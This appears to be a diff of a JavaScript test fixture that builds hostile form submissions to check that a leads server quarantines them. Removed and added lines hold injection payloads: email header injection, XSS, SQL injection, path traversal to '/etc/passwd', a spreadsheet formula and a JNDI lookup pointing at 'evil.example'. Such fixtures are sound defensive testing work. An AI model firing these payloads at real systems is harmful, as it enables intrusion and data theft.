@@ -1,49 +1,9 @@
 import { randomUUID } from 'node:crypto';
+import { asJson, form, good, json, multipart, nasty, parts, urlencoded } from './leads-bodies.mjs';
 
-const good = { firstName: 'Eve', phone: '(303) 555-0100', message: 'Two rooms' };
-const form = 'application/x-www-form-urlencoded';
-const json = 'application/json';
-const urlencoded = (fields) => Buffer.from(new URLSearchParams(fields).toString());
-const asJson = (fields) => Buffer.from(JSON.stringify(fields));
-const multipart = (parts, boundary = 'b0undary') => ({
-  type: `multipart/form-data; boundary=${boundary}`,
-  body: Buffer.concat([
-    ...parts.flatMap(({ name, value, filename }) => [
-      Buffer.from(
-        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${filename ? `; filename="${filename}"\r\nContent-Type: image/jpeg` : ''}\r\n\r\n`,
-      ),
-      Buffer.from(value),
-      Buffer.from('\r\n'),
-    ]),
-    Buffer.from(`--${boundary}--\r\n`),
-  ]),
-});
-const parts = (fields) => Object.entries(fields).map(([name, value]) => ({ name, value }));
+const emailSuffixes = ['\r\nCc: eve@example.com', ', eve2@example.com', '\u0000', '>', ' <eve@example.com>'];
 
-const nasty = [
-  'A\r\nBcc: eve@example.com\r\n\r\nbody',
-  'A\nSubject: other',
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  "'; drop table leads; --",
-  '1 or 1=1',
-  '{{7*7}}${7*7}<%= 7*7 %>',
-  '=HYPERLINK("http://evil.example")',
-  '@SUM(A1)',
-  '\u0000\u0001\u001b[2J\u0007',
-  '\u202egpj.exe',
-  '\u2066\u2069\ufeff',
-  '%0d%0aSet-Cookie: a=b',
-  '../../etc/passwd',
-  'javascript:alert(1)',
-  '😀'.repeat(50),
-  'e\u0301'.repeat(40),
-  '\ud800',
-  '${jndi:ldap://evil.example}',
-  '\u2028\u2029line',
-];
-
-/** Each makes the n-th of its kind. `isSuspect`: to be kept in quarantine. */
+/** Each makes the n-th submission of its kind. `isSuspect`: the server must quarantine it. */
 const kinds = [
   (n) => ({
     kind: 'nasty text, form',
@@ -82,7 +42,7 @@ const kinds = [
     body: asJson({
       ...good,
       phone: '',
-      email: `eve@example.com${['\r\nCc: eve@example.com', ', eve2@example.com', '\u0000', '>', ' <eve@example.com>'][n % 5]}`,
+      email: `eve@example.com${emailSuffixes[n % emailSuffixes.length]}`,
     }),
   }),
   (n) => ({
@@ -278,6 +238,9 @@ const kinds = [
   }),
 ];
 
-/** So many hostile submissions, all kinds by turns. @returns {{ kind: string, type: string, body: Buffer, headers?: Record<string, string>, isSuspect?: boolean, closeAfterMs?: number }[]} */
+/**
+ * @returns {{ kind: string, type: string, body: Buffer, headers?: Record<string, string>,
+ *   isSuspect?: boolean, closeAfterMs?: number }[]} `count` hostile submissions, one of each kind in turn
+ */
 export const attacks = (count) =>
   Array.from({ length: count }, (_, n) => kinds[n % kinds.length](Math.floor(n / kinds.length)));
